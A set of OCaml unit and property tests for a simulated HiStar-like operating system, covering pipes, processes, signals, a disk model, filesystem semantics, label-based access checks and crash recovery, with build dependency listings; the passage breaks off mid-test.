      Alcotest.(check string) "seek+read" "cdef" (Process.read proc fd 4);
      Alcotest.(check int) "pos" 6 (Process.fd_pos proc fd);
      Alcotest.(check string) "rest" "gh" (Process.read proc fd 100);
      Alcotest.(check string) "eof" "" (Process.read proc fd 10);
      Process.close proc fd;
      Alcotest.(check int) "fd table empty" 0 (Process.fd_count proc))

let test_fd_append () =
  in_unix (fun _k proc ->
      let fs = Process.fs proc in
      Fs.write_file fs "/log" "a";
      let fd = Process.open_file proc ~append:true "/log" in
      ignore (Process.write proc fd "b");
      ignore (Process.write proc fd "c");
      Process.close proc fd;
      Alcotest.(check string) "appended" "abc" (Fs.read_file fs "/log"))

(* ---------- pipes ---------- *)

let test_pipe_basic () =
  in_unix (fun _k proc ->
      let rfd, wfd = Process.pipe proc in
      ignore (Process.write proc wfd "through the pipe");
      Alcotest.(check string) "read" "through the pipe"
        (Process.read proc rfd 100);
      Process.close proc wfd;
      Alcotest.(check string) "eof after close" "" (Process.read proc rfd 10))

let test_pipe_between_processes () =
  in_unix (fun _k proc ->
      let rfd, wfd = Process.pipe proc in
      let child =
        Process.spawn proc ~name:"producer" ~fds:[ wfd ] (fun child ->
            ignore (Process.write child wfd "from child");
            Process.close child wfd)
      in
      let got = Process.read proc rfd 100 in
      ignore (Process.wait proc child);
      Alcotest.(check string) "ipc" "from child" got)

let test_pipe_ping_pong () =
  (* the structure of the paper's IPC benchmark: two processes, two
     uni-directional pipes, 8-byte messages echoed back *)
  in_unix (fun _k proc ->
      let r1, w1 = Process.pipe proc in
      let r2, w2 = Process.pipe proc in
      let echo =
        Process.spawn proc ~name:"echo" ~fds:[ r1; w2 ] (fun child ->
            let rec loop () =
              let m = Process.read child r1 8 in
              if String.length m > 0 then begin
                ignore (Process.write child w2 m);
                loop ()
              end
            in
            loop ();
            Process.close child w2)
      in
      for i = 1 to 10 do
        let msg = Printf.sprintf "msg%05d" i in
        ignore (Process.write proc w1 msg);
        Alcotest.(check string) "round trip" msg (Process.read proc r2 8)
      done;
      Process.close proc w1;
      ignore (Process.wait proc echo))

(* ---------- processes ---------- *)

let test_spawn_wait_status () =
  in_unix (fun _k proc ->
      let child =
        Process.spawn proc ~name:"worker" (fun child -> Process.exit child 42)
      in
      Alcotest.(check int) "exit status" 42 (Process.wait proc child))

let test_spawn_implicit_exit () =
  in_unix (fun _k proc ->
      let child = Process.spawn proc ~name:"quiet" (fun _ -> ()) in
      Alcotest.(check int) "implicit 0" 0 (Process.wait proc child))

let test_wait_reaps () =
  in_unix (fun k proc ->
      let before = Kernel.object_count k in
      let child = Process.spawn proc ~name:"ephemeral" (fun _ -> ()) in
      ignore (Process.wait proc child);
      (* everything the child created inside its containers is gone *)
      Alcotest.(check bool) "no leak beyond a few category-free objects" true
        (Kernel.object_count k <= before + 2))

let test_fork_exec () =
  in_unix (fun _k proc ->
      let fs = Process.fs proc in
      ignore (Fs.mkdir fs "/bin");
      Fs.write_file fs "/bin/true" "#!histar/true";
      let ran = ref false in
      let child =
        Process.fork_exec proc ~name:"true" ~text:"/bin/true" (fun child ->
            ran := true;
            Process.exit child 0)
      in
      Alcotest.(check int) "status" 0 (Process.wait proc child);
      Alcotest.(check bool) "program ran" true !ran)

let test_fork_exec_costlier_than_spawn () =
  in_unix (fun k proc ->
      let fs = Process.fs proc in
      ignore (Fs.mkdir fs "/bin");
      Fs.write_file fs "/bin/true" "#!histar/true";
      let profile = Kernel.profile k in
      Histar_core.Profile.reset profile;
      let c1 = Process.fork_exec proc ~name:"t1" ~text:"/bin/true" (fun c -> Process.exit c 0) in
      ignore (Process.wait proc c1);
      let fork_exec_count = Histar_core.Profile.total profile in
      Histar_core.Profile.reset profile;
      let c2 = Process.spawn proc ~name:"t2" (fun c -> Process.exit c 0) in
      ignore (Process.wait proc c2);
      let spawn_count = Histar_core.Profile.total profile in
      Alcotest.(check bool)
        (Printf.sprintf "fork/exec (%d) uses well over the syscalls of spawn (%d)"
           fork_exec_count spawn_count)
        true
        (fork_exec_count > spawn_count * 3 / 2))

let test_signal_handler () =
  in_unix (fun _k proc ->
      let got = ref (-1) in
      let child =
        Process.spawn proc ~name:"victim" (fun child ->
            Process.on_signal child 15 (fun s -> got := s);
            (* wait until signal observed *)
            join (fun () -> !got >= 0);
            Process.exit child 7)
      in
      (* give the child a moment to install its handler *)
      Sys.yield ();
      Sys.yield ();
      Process.kill proc child 15;
      Alcotest.(check int) "exit after signal" 7 (Process.wait proc child);
      Alcotest.(check int) "handler saw signal" 15 !got)

let test_sigkill () =
  in_unix (fun k proc ->
      let child =
        Process.spawn proc ~name:"undead" (fun _child ->
            (* loop forever *)
            let rec spin () =
              Sys.yield ();
              spin ()
            in
            spin ())
      in
      Sys.yield ();
      Process.kill proc child 9;
      (* process container should be destroyed *)
      join (fun () ->
          Kernel.obj_kind k (Process.handle_container child) = None);
      Alcotest.(check bool) "process destroyed" true
        (Kernel.obj_kind k (Process.handle_container child) = None))

let test_tainted_child_cannot_leak_to_fs () =
  (* A scanner-style child tainted in category v cannot write any file
     at the default label (§2.1). *)
  in_unix (fun _k proc ->
      let fs = Process.fs proc in
      ignore (Fs.mkdir fs "/shared");
      Fs.write_file fs "/shared/drop" "";
      let denied = ref false in
      let v = Sys.cat_create () in
      let child =
        Process.spawn proc ~name:"tainted"
          ~extra_label:[ (v, Level.L3) ]
          ~extra_clearance:[ (v, Level.L3) ]
          (fun child ->
            let cfs = Process.fs child in
            match Fs.write_file cfs "/shared/drop" "secret!" with
            | () -> ()
            | exception Kernel_error (Label_check _) -> denied := true)
      in
      ignore (Process.wait proc child);
      Alcotest.(check bool) "tainted write denied by kernel" true !denied;
      Alcotest.(check string) "file unchanged" "" (Fs.read_file fs "/shared/drop"))

(* ---------- dirseg concurrency ---------- *)

let test_dirseg_concurrent_creates () =
  in_unix (fun _k proc ->
      let fs = Process.fs proc in
      ignore (Fs.mkdir fs "/con");
      let finished = ref 0 in
      for t = 1 to 4 do
        let _h =
          Process.spawn proc ~name:(Printf.sprintf "writer%d" t) (fun child ->
              let cfs = Process.fs child in
              for i = 1 to 10 do
                Fs.write_file cfs (Printf.sprintf "/con/f-%d-%d" t i) "x"
              done;
              incr finished)
        in
        ()
      done;
      join (fun () -> !finished = 4);
      Alcotest.(check int) "all 40 files present" 40
        (List.length (Fs.readdir fs "/con")))

let () =
  Alcotest.run "histar_unix"
    [
      ("paths", [ Alcotest.test_case "split" `Quick test_split_path ]);
      ( "fs",
        [
          Alcotest.test_case "mkdir/create/read" `Quick test_mkdir_create_read;
          Alcotest.test_case "nested dirs" `Quick test_nested_dirs;
          Alcotest.test_case "readdir/unlink" `Quick test_readdir_and_unlink;
          Alcotest.test_case "unlink frees" `Quick test_unlink_frees_objects;
          Alcotest.test_case "rename same dir" `Quick test_rename_same_dir;
          Alcotest.test_case "rename cross dir" `Quick test_rename_cross_dir;
          Alcotest.test_case "hard link" `Quick test_hard_link;
          Alcotest.test_case "quota autogrow" `Quick
            test_big_file_quota_autogrow;
          Alcotest.test_case "mounts" `Quick test_mounts;
          Alcotest.test_case "private files" `Quick
            test_private_files_kernel_enforced;
        ] );
      ( "fds",
        [
          Alcotest.test_case "read/write/seek" `Quick test_fd_read_write_seek;
          Alcotest.test_case "append" `Quick test_fd_append;
        ] );
      ( "pipes",
        [
          Alcotest.test_case "basic" `Quick test_pipe_basic;
          Alcotest.test_case "between processes" `Quick
            test_pipe_between_processes;
          Alcotest.test_case "ping pong" `Quick test_pipe_ping_pong;
        ] );
      ( "processes",
        [
          Alcotest.test_case "spawn/wait" `Quick test_spawn_wait_status;
          Alcotest.test_case "implicit exit" `Quick test_spawn_implicit_exit;
          Alcotest.test_case "wait reaps" `Quick test_wait_reaps;
          Alcotest.test_case "fork/exec" `Quick test_fork_exec;
          Alcotest.test_case "fork/exec cost" `Quick
            test_fork_exec_costlier_than_spawn;
          Alcotest.test_case "signal handler" `Quick test_signal_handler;
          Alcotest.test_case "sigkill" `Quick test_sigkill;
          Alcotest.test_case "tainted child" `Quick
            test_tainted_child_cannot_leak_to_fs;
        ] );
      ( "concurrency",
        [
          Alcotest.test_case "dirseg writers" `Quick
            test_dirseg_concurrent_creates;
        ] );
    ]
