open Histar_disk
module Clock = Histar_util.Sim_clock

let small_geometry = { Disk.sectors = 10_000; sector_bytes = 512 }

let mk () =
  let clock = Clock.create () in
  let d = Disk.create ~geometry:small_geometry ~clock () in
  (clock, d)

let sector c = String.make 512 c

let test_read_zeros () =
  let _, d = mk () in
  Alcotest.(check string) "fresh sectors are zero" (sector '\000')
    (Disk.read d ~sector:42 ~count:1)

let test_write_read () =
  let _, d = mk () in
  Disk.write d ~sector:5 (sector 'a' ^ sector 'b');
  Alcotest.(check string) "read back through cache" (sector 'a' ^ sector 'b')
    (Disk.read d ~sector:5 ~count:2);
  Disk.flush d;
  Alcotest.(check string) "read back from media" (sector 'b')
    (Disk.read d ~sector:6 ~count:1)

let test_bad_args () =
  let _, d = mk () in
  Alcotest.check_raises "unaligned write"
    (Invalid_argument "Disk.write: data not a multiple of the sector size")
    (fun () -> Disk.write d ~sector:0 "abc");
  (try
     ignore (Disk.read d ~sector:9_999 ~count:2);
     Alcotest.fail "expected out-of-range failure"
   with Invalid_argument _ -> ())

let test_time_advances () =
  let clock, d = mk () in
  let t0 = Clock.now_ns clock in
  ignore (Disk.read d ~sector:5_000 ~count:8);
  Alcotest.(check bool) "read costs time" true (Clock.now_ns clock > t0)

let test_sequential_cheaper_than_random () =
  (* 100 sequential sector writes+flush should cost far less than 100
     scattered single-sector write+flush pairs. *)
  let clock_seq, d_seq = mk () in
  for i = 0 to 99 do
    Disk.write d_seq ~sector:(1000 + i) (sector 'x')
  done;
  Disk.flush d_seq;
  let seq_ns = Clock.now_ns clock_seq in
  let clock_rnd, d_rnd = mk () in
  for i = 0 to 99 do
    Disk.write d_rnd ~sector:(i * 97) (sector 'x');
    Disk.flush d_rnd
  done;
  let rnd_ns = Clock.now_ns clock_rnd in
  Alcotest.(check bool)
    (Printf.sprintf "random (%Ld) >> sequential (%Ld)" rnd_ns seq_ns)
    true
    (rnd_ns > Int64.mul 10L seq_ns)

let test_flush_coalesces () =
  let _, d = mk () in
  for i = 0 to 9 do
    Disk.write d ~sector:(100 + i) (sector 'y')
  done;
  Disk.flush d;
  let s = Disk.stats d in
  Alcotest.(check int) "ten sectors written" 10 s.sectors_written;
  (* One contiguous run: at most one seek. *)
  Alcotest.(check bool) "coalesced into one seek" true (s.seeks <= 2)

let test_stats_reset () =
  let _, d = mk () in
  Disk.write d ~sector:0 (sector 'z');
  Disk.flush d;
  Disk.reset_stats d;
  let s = Disk.stats d in
  Alcotest.(check int) "writes reset" 0 s.writes;
  Alcotest.(check int) "sectors reset" 0 s.sectors_written

let test_crash_loses_cache () =
  let _, d = mk () in
  Disk.write d ~sector:1 (sector 'a');
  Disk.flush d;
  Disk.write d ~sector:2 (sector 'b');
  Disk.set_crash_after_writes d 0;
  (try
     Disk.flush d;
     Alcotest.fail "expected crash"
   with Disk.Crashed -> ());
  Alcotest.(check bool) "crashed" true (Disk.crashed d);
  Alcotest.check_raises "dead disk" Disk.Crashed (fun () ->
      ignore (Disk.read d ~sector:1 ~count:1));
  let d' = Disk.reopen_after_crash d in
  Alcotest.(check string) "pre-crash data survives" (sector 'a')
    (Disk.read d' ~sector:1 ~count:1);
  Alcotest.(check string) "lost write gone" (sector '\000')
    (Disk.read d' ~sector:2 ~count:1)

let test_crash_partial_flush () =
  let _, d = mk () in
  for i = 0 to 9 do
    Disk.write d ~sector:i (sector 'p')
  done;
  Disk.set_crash_after_writes d 5;
  (try
     Disk.flush d;
     Alcotest.fail "expected crash"
   with Disk.Crashed -> ());
  let d' = Disk.reopen_after_crash d in
  (* Exactly the first five sectors of the elevator scan persisted. *)
  for i = 0 to 4 do
    Alcotest.(check string) "persisted" (sector 'p') (Disk.read d' ~sector:i ~count:1)
  done;
  for i = 5 to 9 do
    Alcotest.(check string) "torn off" (sector '\000')
      (Disk.read d' ~sector:i ~count:1)
  done

let prop_write_read_roundtrip =
  QCheck2.Test.make ~name:"disk write/read round-trip" ~count:100
    QCheck2.Gen.(pair (int_bound 999) (int_range 1 8))
    (fun (start, count) ->
      let _, d = mk () in
      let rng = Histar_util.Rng.create (Int64.of_int (start + count)) in
      let data = Histar_util.Rng.bytes rng (count * 512) in
      Disk.write d ~sector:start data;
      Disk.flush d;
      String.equal (Disk.read d ~sector:start ~count) data)

let () =
  Alcotest.run "histar_disk"
    [
      ( "disk",
        [
          Alcotest.test_case "zero fill" `Quick test_read_zeros;
          Alcotest.test_case "write/read" `Quick test_write_read;
          Alcotest.test_case "bad arguments" `Quick test_bad_args;
          Alcotest.test_case "time model" `Quick test_time_advances;
          Alcotest.test_case "seq vs random cost" `Quick
            test_sequential_cheaper_than_random;
          Alcotest.test_case "flush coalesces" `Quick test_flush_coalesces;
          Alcotest.test_case "stats reset" `Quick test_stats_reset;
          Alcotest.test_case "crash loses cache" `Quick test_crash_loses_cache;
          Alcotest.test_case "crash mid-flush" `Quick test_crash_partial_flush;
          QCheck_alcotest.to_alcotest prop_write_read_roundtrip;
        ] );
    ]
