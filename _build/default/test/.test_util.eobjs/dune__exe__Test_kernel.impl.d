test/test_kernel.ml: Alcotest Array Category Histar_core Histar_disk Histar_label Histar_store Histar_util Int64 Label Level List Option QCheck2 QCheck_alcotest
