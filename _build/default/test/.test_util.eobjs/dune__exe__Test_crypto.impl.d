test/test_crypto.ml: Alcotest Block_cipher Category_gen Hashtbl Histar_crypto Int64 List QCheck2 QCheck_alcotest
