test/test_btree.ml: Alcotest Bptree Histar_btree Histar_util Int64 List Map Printf QCheck2 QCheck_alcotest
