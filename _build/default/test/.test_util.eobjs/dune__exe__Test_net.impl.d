test/test_net.ml: Addr Alcotest Buffer Char Histar_core Histar_label Histar_net Histar_util Hub Label Level Netd Packet Printf QCheck2 QCheck_alcotest Sim_host Stack String
