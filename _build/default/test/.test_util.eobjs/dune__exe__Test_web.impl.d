test/test_web.ml: Alcotest Authd Dird Fs Histar_apps Histar_auth Histar_core Histar_label Histar_unix Label Level Logd Printexc Process Untaint Users Webserver
