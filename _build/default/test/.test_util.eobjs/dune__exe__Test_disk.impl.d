test/test_disk.ml: Alcotest Disk Histar_disk Histar_util Int64 Printf QCheck2 QCheck_alcotest String
