test/test_store.ml: Alcotest Bytes Extent_alloc Hashtbl Histar_disk Histar_store Histar_util Int64 List Option Printf QCheck2 QCheck_alcotest Store String
