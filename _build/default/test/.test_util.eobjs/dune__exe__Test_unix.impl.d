test/test_unix.ml: Alcotest Dirseg Fs Histar_core Histar_label Histar_unix Label Level List Printexc Printf Process String Users
