test/test_baseline.ml: Alcotest Histar_baseline Histar_disk Histar_util Int64 List Printf String Unixsim
