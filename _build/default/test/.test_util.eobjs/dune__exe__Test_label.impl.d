test/test_label.ml: Alcotest Category Histar_label Histar_util Label Level List QCheck2 QCheck_alcotest
