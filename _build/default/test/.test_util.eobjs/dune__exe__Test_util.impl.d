test/test_util.ml: Alcotest Codec Histar_util Int64 List QCheck2 QCheck_alcotest Rng Sim_clock String
