test/test_unix.mli:
