test/test_wal.ml: Alcotest Histar_disk Histar_util Histar_wal List QCheck2 QCheck_alcotest String Wal
