test/test_apps.ml: Alcotest Buffer Build_sim Clamav_world Fs Histar_apps Histar_core Histar_label Histar_net Histar_unix Label Level List Option Printexc Printf Process Scanner Update_daemon Vpn Wrap
