(* Deeper edge cases across the stack: kernel corner cases, FS
   semantics, pipe blocking, whole-world persistence, stack teardown. *)

module Kernel = Histar_core.Kernel
module Sys = Histar_core.Sys
module Store = Histar_store.Store
module Disk = Histar_disk.Disk
module Clock = Histar_util.Sim_clock
open Histar_core.Types
open Histar_unix
open Histar_label

let l entries d = Label.of_list entries d
let l1 = Label.make Level.L1
let l2 = Label.make Level.L2

let in_kernel f =
  let k = Kernel.create () in
  let result = ref None in
  let failure = ref None in
  let _tid =
    Kernel.spawn k ~name:"t" (fun () ->
        match f k (Kernel.root k) with
        | v -> result := Some v
        | exception e -> failure := Some (Printexc.to_string e))
  in
  Kernel.run k;
  match (!result, !failure) with
  | Some v, _ -> v
  | None, Some m -> Alcotest.fail ("crashed: " ^ m)
  | None, None -> Alcotest.fail "did not complete"

let in_unix f =
  in_kernel (fun k root ->
      let fs = Fs.format_root ~container:root ~label:l1 in
      let proc = Process.boot ~fs ~container:root ~name:"init" () in
      f k fs proc)

let expect_error f =
  match f () with
  | _ -> Alcotest.fail "expected kernel error"
  | exception Kernel_error _ -> ()

(* ---------- kernel corner cases ---------- *)

let test_metadata_limit () =
  in_kernel (fun _ root ->
      let seg = Sys.segment_create ~container:root ~label:l1 ~quota:8192L "s" in
      Sys.set_metadata (centry root seg) (String.make 64 'm');
      Alcotest.(check string) "64 bytes ok" (String.make 64 'm')
        (Sys.get_metadata (centry root seg));
      expect_error (fun () ->
          Sys.set_metadata (centry root seg) (String.make 65 'm')))

let test_quota_observation_needs_read () =
  in_kernel (fun _ root ->
      let c = Sys.cat_create () in
      let seg =
        Sys.segment_create ~container:root
          ~label:(l [ (c, Level.L3) ] Level.L1)
          ~quota:8192L "secret"
      in
      let denied = ref false in
      let _t =
        Sys.thread_create ~container:root ~label:l1 ~clearance:l2
          ~quota:65_536L ~name:"probe" (fun () ->
            match Sys.obj_quota (centry root seg) with
            | _ -> ()
            | exception Kernel_error (Label_check _) -> denied := true)
      in
      let tries = ref 0 in
      while (not !denied) && !tries < 1000 do
        incr tries;
        Sys.yield ()
      done;
      Alcotest.(check bool) "quota is information too" true !denied)

let test_hard_link_double_charges () =
  in_kernel (fun _ root ->
      let d1 = Sys.container_create ~container:root ~label:l1 ~quota:65_536L "d1" in
      let d2 = Sys.container_create ~container:root ~label:l1 ~quota:65_536L "d2" in
      let seg = Sys.segment_create ~container:d1 ~label:l1 ~quota:8192L "s" in
      let _, u1_before = Sys.obj_quota (self_entry d2) in
      Sys.set_fixed_quota (centry d1 seg);
      Sys.container_link ~container:d2 ~target:(centry d1 seg);
      let _, u1_after = Sys.obj_quota (self_entry d2) in
      (* §3.3: the full quota counts in every container *)
      Alcotest.(check int64) "full quota charged to the second container"
        8192L
        (Int64.sub u1_after u1_before))

let test_verify_label_check () =
  in_kernel (fun _ root ->
      let gate =
        Sys.gate_create ~container:root ~label:l1 ~clearance:l2 ~quota:4096L
          ~name:"g" (fun () -> Sys.self_halt ())
      in
      (* L_T ⊑ L_V must hold: an impossible verify label is rejected *)
      expect_error (fun () ->
          Sys.gate_enter ~gate:(centry root gate) ~label:l1 ~clearance:l2
            ~verify:(Label.make Level.L0) ()))

let test_thread_cannot_read_higher_thread_label () =
  in_kernel (fun _ root ->
      let c = Sys.cat_create () in
      let owner_tid =
        Sys.thread_create ~container:root
          ~label:(l [ (c, Level.Star) ] Level.L1)
          ~clearance:(l [ (c, Level.L3) ] Level.L2)
          ~quota:65_536L ~name:"owner"
          (fun () ->
            let rec spin n = if n > 0 then begin Sys.yield (); spin (n-1) end in
            spin 50)
      in
      let denied = ref false in
      let _probe =
        Sys.thread_create ~container:root ~label:l1 ~clearance:l2
          ~quota:65_536L ~name:"probe" (fun () ->
            match Sys.thread_get_label (centry root owner_tid) with
            | _ -> ()
            | exception Kernel_error (Label_check _) -> denied := true)
      in
      let tries = ref 0 in
      while (not !denied) && !tries < 1000 do
        incr tries;
        Sys.yield ()
      done;
      (* L_T'^J ⊑ L_T^J fails: owner has c at ⋆→J, probe at 1 *)
      Alcotest.(check bool) "mutable thread labels are protected" true !denied)

let test_segment_copy_requires_observe () =
  in_kernel (fun _ root ->
      let c = Sys.cat_create () in
      let seg =
        Sys.segment_create ~container:root
          ~label:(l [ (c, Level.L3) ] Level.L1)
          ~quota:8192L ~len:4 "secret"
      in
      let denied = ref false in
      let _t =
        Sys.thread_create ~container:root ~label:l1 ~clearance:l2
          ~quota:65_536L ~name:"copier" (fun () ->
            match
              Sys.segment_copy ~src:(centry root seg) ~container:root
                ~label:l1 ~quota:8192L "stolen copy"
            with
            | _ -> ()
            | exception Kernel_error (Label_check _) -> denied := true)
      in
      let tries = ref 0 in
      while (not !denied) && !tries < 1000 do
        incr tries;
        Sys.yield ()
      done;
      Alcotest.(check bool) "cannot launder via copy" true !denied)

let test_as_map_unmap () =
  in_kernel (fun _ root ->
      let asp = Sys.as_create ~container:root ~label:l1 ~quota:4608L "as" in
      let seg = Sys.segment_create ~container:root ~label:l1 ~quota:8192L "s" in
      let m =
        {
          Histar_core.Syscall.va = 0x1000L;
          seg = centry root seg;
          offset = 0;
          npages = 1;
          flags = { Histar_core.Syscall.read = true; write = false; exec = false };
        }
      in
      Sys.as_map (centry root asp) m;
      Alcotest.(check int) "mapped" 1 (List.length (Sys.as_get (centry root asp)));
      (* remapping the same va replaces *)
      Sys.as_map (centry root asp) m;
      Alcotest.(check int) "idempotent" 1 (List.length (Sys.as_get (centry root asp)));
      Sys.as_unmap (centry root asp) 0x1000L;
      Alcotest.(check int) "unmapped" 0 (List.length (Sys.as_get (centry root asp))))

(* ---------- fs semantics ---------- *)

let test_missing_intermediate () =
  in_unix (fun _ fs _ ->
      Alcotest.(check bool) "no phantom paths" false (Fs.exists fs "/a/b/c");
      (try
         ignore (Fs.mkdir fs "/a/b/c");
         Alcotest.fail "mkdir through missing parents"
       with Invalid_argument _ -> ()))

let test_readdir_of_file_rejected () =
  in_unix (fun _ fs _ ->
      Fs.write_file fs "/plain" "x";
      try
        ignore (Fs.readdir fs "/plain");
        Alcotest.fail "readdir of a file"
      with Invalid_argument _ -> ())

let test_rename_replaces_target () =
  in_unix (fun _ fs _ ->
      ignore (Fs.mkdir fs "/r");
      Fs.write_file fs "/r/a" "new";
      Fs.write_file fs "/r/b" "old";
      Fs.rename fs ~src:"/r/a" ~dst:"/r/b";
      Alcotest.(check string) "target replaced" "new" (Fs.read_file fs "/r/b");
      Alcotest.(check bool) "source gone" false (Fs.exists fs "/r/a");
      Alcotest.(check int) "one entry" 1 (List.length (Fs.readdir fs "/r")))

let test_relabel_chmod_semantics () =
  in_unix (fun _ fs proc ->
      let c = Sys.cat_create () in
      Fs.write_file fs "/doc" "was public";
      (* chmod 0600: relabel to {c3, 1} *)
      ignore (Fs.relabel fs "/doc" ~label:(l [ (c, Level.L3) ] Level.L1));
      Alcotest.(check string) "owner still reads" "was public"
        (Fs.read_file fs "/doc");
      let denied = ref false in
      let child =
        Process.spawn proc ~name:"other" (fun p ->
            match Fs.read_file (Process.fs p) "/doc" with
            | _ -> ()
            | exception Kernel_error (Label_check _) -> denied := true)
      in
      ignore (Process.wait proc child);
      Alcotest.(check bool) "relabel took effect" true !denied)

let test_mtime_advances () =
  in_unix (fun _ fs _ ->
      Fs.write_file fs "/stamped" "v1";
      let t1 = Option.get (Fs.mtime fs "/stamped") in
      Sys.usleep 1_000;
      Fs.write_file fs "/stamped" "v2";
      let t2 = Option.get (Fs.mtime fs "/stamped") in
      Alcotest.(check bool)
        (Printf.sprintf "mtime %Ld -> %Ld" t1 t2)
        true
        (Int64.compare t2 t1 > 0))

let test_fsync_missing_raises () =
  in_unix (fun _ fs _ ->
      try
        Fs.fsync fs "/nope";
        Alcotest.fail "fsync of a missing file"
      with Invalid_argument _ -> ())

(* ---------- fs model property ---------- *)

(* Random single-directory workloads compared against a string map. *)
type fs_op =
  | Op_write of int * string
  | Op_unlink of int
  | Op_rename of int * int
  | Op_read of int

let gen_fs_op =
  let open QCheck2.Gen in
  let name = int_bound 8 in
  oneof
    [
      map2 (fun n v -> Op_write (n, v)) name (string_size (int_bound 40));
      map (fun n -> Op_unlink n) name;
      map2 (fun a b -> Op_rename (a, b)) name name;
      map (fun n -> Op_read n) name;
    ]

module SMap = Map.Make (String)

let prop_fs_model =
  QCheck2.Test.make ~name:"fs matches a map model" ~count:40
    QCheck2.Gen.(list_size (int_bound 80) gen_fs_op)
    (fun ops ->
      in_unix (fun _ fs _ ->
          ignore (Fs.mkdir fs "/m");
          let path n = Printf.sprintf "/m/f%d" n in
          let model = ref SMap.empty in
          let ok = ref true in
          List.iter
            (fun op ->
              match op with
              | Op_write (n, v) ->
                  Fs.write_file fs (path n) v;
                  model := SMap.add (path n) v !model
              | Op_unlink n -> (
                  match SMap.mem (path n) !model with
                  | true ->
                      Fs.unlink fs (path n);
                      model := SMap.remove (path n) !model
                  | false -> (
                      match Fs.unlink fs (path n) with
                      | () -> ok := false
                      | exception Invalid_argument _ -> ()))
              | Op_rename (a, b) -> (
                  if a <> b then
                    match SMap.find_opt (path a) !model with
                    | Some v ->
                        Fs.rename fs ~src:(path a) ~dst:(path b);
                        model :=
                          SMap.add (path b) v (SMap.remove (path a) !model)
                    | None -> (
                        match Fs.rename fs ~src:(path a) ~dst:(path b) with
                        | () -> ok := false
                        | exception Invalid_argument _ -> ()))
              | Op_read n -> (
                  let actual =
                    match Fs.read_file fs (path n) with
                    | v -> Some v
                    | exception Invalid_argument _ -> None
                  in
                  if SMap.find_opt (path n) !model <> actual then ok := false))
            ops;
          (* final directory listing must agree with the model *)
          let listing =
            Fs.readdir fs "/m"
            |> List.map (fun e -> "/m/" ^ e.Dirseg.name)
            |> List.sort compare
          in
          let expected = List.sort compare (List.map fst (SMap.bindings !model)) in
          !ok && listing = expected))

(* ---------- whole-world persistence ---------- *)

let test_unix_world_survives_reboot () =
  let clock = Clock.create () in
  let disk = Disk.create ~clock () in
  let store = Store.format ~disk () in
  let kernel = Kernel.create ~clock ~store () in
  let paths = [ "/etc/passwd"; "/home/bob/notes"; "/var/log/boot" ] in
  let _tid =
    Kernel.spawn kernel ~name:"init" (fun () ->
        let fs = Fs.format_root ~container:(Kernel.root kernel) ~label:l1 in
        let _proc = Process.boot ~fs ~container:(Kernel.root kernel) ~name:"init" () in
        ignore (Fs.mkdir fs "/etc");
        ignore (Fs.mkdir fs "/home");
        ignore (Fs.mkdir fs "/home/bob");
        ignore (Fs.mkdir fs "/var");
        ignore (Fs.mkdir fs "/var/log");
        List.iter (fun p -> Fs.write_file fs p ("contents of " ^ p)) paths;
        Sys.sync_all ())
  in
  Kernel.run kernel;
  (* power cut: everything in kernel memory is gone; rebuild from disk *)
  let kernel' = Kernel.recover ~store:(Store.recover ~disk) in
  let seen = ref [] in
  let _tid =
    Kernel.spawn kernel' ~name:"after-boot" (fun () ->
        (* find the fs root: the only container child of the root *)
        let root = Kernel.root kernel' in
        let kids = Option.value ~default:[] (Kernel.container_children kernel' root) in
        let fs_root =
          List.find_map
            (fun (oid, kind) ->
              if kind = Container then
                match Sys.obj_descrip (self_entry oid) with
                | "/" -> Some oid
                | _ -> None
                | exception Kernel_error _ -> None
              else None)
            kids
        in
        match fs_root with
        | None -> ()
        | Some root_oid ->
            let fs = Fs.make ~root:root_oid in
            List.iter
              (fun p ->
                match Fs.read_file fs p with
                | v -> seen := (p, v) :: !seen
                | exception _ -> ())
              paths)
  in
  Kernel.run kernel';
  List.iter
    (fun p ->
      Alcotest.(check (option string))
        ("after reboot: " ^ p)
        (Some ("contents of " ^ p))
        (List.assoc_opt p !seen))
    paths

(* ---------- pipes under pressure ---------- *)

let test_pipe_blocking_full () =
  in_unix (fun _ _ proc ->
      let r, w = Process.pipe proc in
      let big = String.make (Pipe.capacity + 10_000) 'z' in
      let wrote = ref false in
      let child =
        Process.spawn proc ~name:"writer" ~fds:[ w ] (fun p ->
            ignore (Process.write p w big);
            wrote := true;
            Process.close p w)
      in
      (* close our own write end, or EOF never arrives *)
      Process.close proc w;
      (* the writer must block until we drain *)
      let total = ref 0 in
      let rec drain () =
        let chunk = Process.read proc r 65_536 in
        if String.length chunk > 0 then begin
          total := !total + String.length chunk;
          drain ()
        end
      in
      drain ();
      ignore (Process.wait proc child);
      Alcotest.(check bool) "writer completed" true !wrote;
      Alcotest.(check int) "all bytes" (String.length big) !total)

let test_pipe_two_writers_eof () =
  in_unix (fun _ _ proc ->
      let r, w = Process.pipe proc in
      let c1 =
        Process.spawn proc ~name:"w1" ~fds:[ w ] (fun p ->
            ignore (Process.write p w "aaaa");
            Process.close p w)
      in
      let c2 =
        Process.spawn proc ~name:"w2" ~fds:[ w ] (fun p ->
            ignore (Process.write p w "bbbb");
            Process.close p w)
      in
      Process.close proc w;
      let buf = Buffer.create 16 in
      let rec drain () =
        let chunk = Process.read proc r 16 in
        if String.length chunk > 0 then begin
          Buffer.add_string buf chunk;
          drain ()
        end
      in
      drain ();
      ignore (Process.wait proc c1);
      ignore (Process.wait proc c2);
      Alcotest.(check int) "eight bytes then EOF" 8 (Buffer.length buf))

(* ---------- processes ---------- *)

let test_grandchildren () =
  in_unix (fun _ _ proc ->
      let child =
        Process.spawn proc ~name:"child" (fun c ->
            let grandchild =
              Process.spawn c ~name:"grandchild" (fun g -> Process.exit g 5)
            in
            Process.exit c (Process.wait c grandchild + 10))
      in
      Alcotest.(check int) "status flows up" 15 (Process.wait proc child))

let test_fork_exec_without_text () =
  in_unix (fun _ _ proc ->
      let h = Process.fork_exec proc ~name:"anon" (fun c -> Process.exit c 3) in
      Alcotest.(check int) "ran" 3 (Process.wait proc h))

let test_exec_missing_text_raises () =
  in_unix (fun _ _ proc ->
      try
        ignore
          (Process.fork_exec proc ~name:"ghost" ~text:"/bin/ghost" (fun c ->
               Process.exit c 0));
        Alcotest.fail "exec of a missing binary"
      with Invalid_argument _ -> ())

(* ---------- stack teardown ---------- *)

let test_stack_teardown () =
  let clock = Clock.create () in
  let hub = Histar_net.Hub.create ~clock () in
  let a = Histar_net.Sim_host.create ~hub ~clock ~ip:"10.0.0.1" ~mac:"aa" () in
  let b = Histar_net.Sim_host.create ~hub ~clock ~ip:"10.0.0.2" ~mac:"bb" () in
  Histar_net.Sim_host.echo b ~port:7;
  let c =
